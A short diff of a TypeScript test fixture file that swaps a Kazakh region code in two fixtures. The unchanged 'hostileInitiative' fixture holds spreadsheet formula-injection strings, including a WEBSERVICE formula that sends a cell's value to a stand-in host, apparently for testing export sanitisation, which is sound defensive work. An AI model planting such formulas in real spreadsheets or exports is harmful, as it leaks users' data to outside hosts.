@@ -37,7 +37,7 @@ export function initiativeRow(id: string, overrides: Partial<NewInitiativeRow> =
     summary_en: 'Test summary',
     summary_kk: null,
     owner_id: 'aktobe-maslikhat',
-    region: 'KZ-AKT',
+    region: 'KZ-15',
     tags: '[]',
     status: 'proposed',
     progress: 0,
@@ -155,7 +155,7 @@ export const hostileInitiative = {
   title: { ru: 'Заголовок\r=HYPERLINK("http://e.x")', en: 'x;=WEBSERVICE("http://e.x/?"&A1)' },
   summary: { ru: '＝1+2', en: '@SUM(1)\n-2+3' },
   ownerId: 'senate',
-  region: 'KZ-AKT',
+  region: 'KZ-15',
   tags: [],
   noSource: true,
 } as const;
